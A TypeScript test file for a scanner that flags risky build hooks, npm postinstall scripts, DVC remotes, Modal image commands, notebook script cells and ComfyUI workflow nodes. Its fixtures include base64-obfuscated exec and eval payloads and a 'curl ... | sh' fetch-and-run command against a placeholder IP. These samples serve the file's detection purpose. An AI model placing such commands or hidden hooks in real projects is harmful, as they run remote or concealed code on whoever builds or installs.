import assert from 'node:assert/strict';
import { test } from 'node:test';
import { codes, readText, scanText } from '../packages/test-list.ts';
import { withActivations } from '../source-code/activation.ts';

const filesOf = (name: string, text: string) => readText(name, text).activations.map(({ file, by }) => `${file} by ${by}`);
const acting = `import os\nos.system('id')\n`;
const hidden = `import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n`;

/** A hook is judged by what its file does, once a manifest starts it. */
function judged(manifest: string, text: string, file: string, source: string) {
  const reports = withActivations(
    [scanText(manifest, text), scanText(file, source)].map((report, at) => ({ ...report, path: at === 0 ? manifest : file })),
  );
  return reports[1]?.findings[0];
}

test('hooks of build backends are files that a build imports', () => {
  const hatch =
    '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n[tool.hatch.build.hooks.custom]\npath = "tools/hook.py"\n';
  assert.deepEqual(filesOf('pyproject.toml', hatch), ['tools/hook.py by hatch.build.hooks.custom of pyproject.toml']);
  assert.deepEqual(filesOf('pyproject.toml', '[tool.hatch.build.hooks.custom]\n'), [
    'hatch_build.py by hatch.build.hooks.custom of pyproject.toml',
  ]);
  assert.deepEqual(filesOf('pyproject.toml', '[tool.poetry.build]\nscript = "build.py"\n'), ['build.py by poetry.build of pyproject.toml']);
  assert.deepEqual(filesOf('pyproject.toml', '[tool.pdm.build]\ncustom-hook = "pdm_build.py"\n'), [
    'pdm_build.py by pdm.build.custom-hook of pyproject.toml',
  ]);
  assert.deepEqual(filesOf('pyproject.toml', '[tool.setuptools.cmdclass]\nbuild_py = "pkg.build.BuildPy"\n'), [
    'pkg/build.py by setuptools.cmdclass.build_py of pyproject.toml',
  ]);
  assert.deepEqual(
    filesOf('pyproject.toml', '[build-system]\nbuild-backend = "setuptools.build_meta"\n[tool.ruff]\nline-length = 100\n'),
    [],
  );
});

test('setup.cfg: command classes and hooks', () => {
  const text =
    '[global]\nsetup-hooks =\n    tools.hooks.prepare\n[options]\ninstall_requires =\n    numpy.core>=1\ncmdclass =\n    build_py = tools.build.BuildPy\n';
  assert.deepEqual(filesOf('setup.cfg', text), ['tools/hooks.py by setup_hooks of setup.cfg', 'tools/build.py by cmdclass of setup.cfg']);
  assert.deepEqual(filesOf('setup.cfg', '[metadata]\nversion = attr: pkg.__version__\n[options]\npackages = find:\n'), []);
});

test('what a hook does counts once a manifest starts it, and an ordinary hook is nothing', () => {
  const manifest = '[tool.hatch.build.hooks.custom]\npath = "hook.py"\n';
  assert.equal(judged('pyproject.toml', manifest, 'hook.py', hidden)?.severity, 'critical');
  assert.match(
    judged('pyproject.toml', manifest, 'hook.py', hidden)?.why ?? '',
    /activated by hatch\.build\.hooks\.custom of pyproject\.toml/,
  );
  const ordinary = `import subprocess\nfrom hatchling.builders.hooks.plugin.interface import BuildHookInterface\n\nclass CustomBuildHook(BuildHookInterface):\n    def initialize(self, version, build_data):\n        subprocess.run(['npm', 'run', 'build'], check=True)\n`;
  assert.notEqual(judged('pyproject.toml', manifest, 'hook.py', ordinary)?.severity, 'critical');
  const script = `eval(Buffer.from('aWQ=', 'base64').toString())`;
  const lifecycle = JSON.stringify({ name: 'a', scripts: { postinstall: 'node ./tools/setup.js' } });
  assert.deepEqual(filesOf('package.json', lifecycle), ['tools/setup.js by postinstall of package.json']);
  assert.equal(judged('package.json', lifecycle, 'tools/setup.js', script)?.severity, 'critical');
  assert.deepEqual(filesOf('package.json', JSON.stringify({ scripts: { test: 'node test.js', postinstall: 'husky' } })), []);
});

test('remotes of DVC', () => {
  const remote = (url: string, more = '') => `[core]\n    remote = main\n['remote "main"']\n    url = ${url}\n${more}`;
  assert.deepEqual(codes(readText('.dvc/config', remote('http://data.example.org/x', '    ssl_verify = false\n'))), [
    'certificate-check-off',
    'plain-http-data',
  ]);
  for (const url of ['s3://bucket/x', 'https://data.example.org/x', 'http://localhost:9000/x', '../store'])
    assert.deepEqual(codes(readText('.dvc/config', remote(url))), []);
});

test('images of Modal: commands that fetch and run, and ordinary ones', () => {
  const image = (command: string) =>
    `import modal\nimage = (\n    modal.Image.debian_slim()\n    .apt_install("git")\n    .run_commands(\n        "${command}",\n    )\n)\napp = modal.App(image=image)\n`;
  const found = readText('app.py', image('curl -s http://203.0.113.5/x | sh'));
  assert.deepEqual(codes(found), ['remote-script-plain']);
  assert.equal(found.practices[0]?.where.line, 6);
  assert.deepEqual(codes(readText('app.py', image('pip install -r requirements.txt'))), []);
  assert.deepEqual(codes(readText('app.py', image('curl -s http://203.0.113.5/x | sh').replace('import modal', 'import other'))), []);
});

const notebook = (source: string) =>
  JSON.stringify({
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [{ cell_type: 'code', metadata: {}, outputs: [], source: source.split(/(?<=\n)/) }],
  });

test('cells of a notebook that run in the browser', () => {
  assert.deepEqual(codes(readText('a.ipynb', notebook('%%javascript\nalert(1)'))), ['notebook-script']);
  assert.deepEqual(codes(readText('a.ipynb', notebook('%%html\n<script src="https://example.org/a.js"></script>'))), ['notebook-script']);
  assert.equal(scanText('a.ipynb', notebook('%%js\neval(atob("YQ=="))')).verdict, 'suspicious');
  assert.equal(scanText('a.ipynb', notebook('%%javascript\nJupyter.notebook.kernel.execute("import os")')).verdict, 'suspicious');
  assert.deepEqual(codes(readText('a.ipynb', notebook('%%html\n<style>table { float: left }</style>'))), []);
  assert.deepEqual(codes(readText('a.ipynb', notebook('%%time\nprint("%%javascript")'))), []);
});

test('workflows of ComfyUI: code and addresses in nodes, and prompts that only speak of them', () => {
  const flow = (text: string) =>
    JSON.stringify({ last_node_id: 1, nodes: [{ id: 1, type: 'RunPython', widgets_values: [text, 20, 'euler'] }], links: [] });
  const api = (text: string) => JSON.stringify({ 3: { class_type: 'KSampler', inputs: { seed: 1, model: ['4', 0], text } } });
  for (const form of [flow, api]) {
    assert.equal(scanText('workflow.json', form(acting)).verdict, 'risky');
    assert.equal(scanText('workflow.json', form(hidden)).findings[0]?.severity, 'critical');
    assert.deepEqual(codes(readText('workflow.json', form('http://203.0.113.5/model.safetensors'))), ['plain-http-model']);
    for (const text of [
      'a photo of a python importing bananas from Spain',
      'masterpiece, (best quality:1.2), evaluation of exec suites',
      'https://example.org/model.safetensors',
      'sd_xl_base_1.0.safetensors',
    ])
      assert.deepEqual(scanText('workflow.json', form(text)).findings, [], text);
  }
});
